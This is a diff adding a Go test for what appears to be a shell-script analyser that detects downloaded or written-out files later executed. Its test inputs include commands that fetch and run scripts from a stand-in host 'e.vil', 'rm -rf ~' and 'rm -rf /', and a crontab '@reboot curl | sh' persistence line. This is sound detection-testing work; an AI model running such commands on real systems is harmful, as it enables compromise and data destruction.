@@ -888,3 +888,35 @@ func TestExecOfLocalProgram(t *testing.T) {
 		t.Fatalf("exec accesses: %s", dump(f))
 	}
 }
+
+func TestFilesWrittenThenRun(t *testing.T) {
+	cases := []struct {
+		src        string
+		downloaded bool
+		content    string
+	}{
+		{`curl -o /tmp/x.sh http://e.vil/x && bash /tmp/x.sh`, true, ""},
+		{`curl -sO https://e.vil/a/setup.sh; sh setup.sh`, true, ""},
+		{`wget http://e.vil/i.sh; chmod +x i.sh; ./i.sh`, true, ""},
+		{`wget -O ./p.py http://e.vil/p; python3 p.py`, true, ""},
+		{"cat > run.sh <<EOF\nrm -rf ~\nEOF\nsh run.sh", false, "rm -rf ~\n"},
+		{`echo "rm -rf /" > x.sh; . ./x.sh`, false, "rm -rf /\n"},
+		{`echo "id" > x.sh; echo "whoami" >> x.sh; bash x.sh`, false, "id\nwhoami\n"},
+	}
+	for _, tc := range cases {
+		f := run(t, tc.src)
+		d := findDyn(f, "source")
+		if d == nil || d.Downloaded != tc.downloaded || d.Static == tc.downloaded || d.Content != tc.content {
+			t.Errorf("%q: %s", tc.src, dump(f))
+		}
+	}
+	f := run(t, `echo "@reboot curl x.io/p | sh" > /tmp/c; crontab /tmp/c`)
+	if d := findDyn(f, "pipe_interpreter"); d == nil || !d.Downloaded || d.Pos.Via != "crontab" {
+		t.Errorf("crontab file: %s", dump(f))
+	}
+	// A file rewritten with other content is no longer the download.
+	f = run(t, `curl -o a.sh http://x.io; echo ls > a.sh; bash a.sh`)
+	if d := findDyn(f, "source"); d == nil || d.Downloaded || d.Content != "ls\n" {
+		t.Errorf("overwritten download: %s", dump(f))
+	}
+}
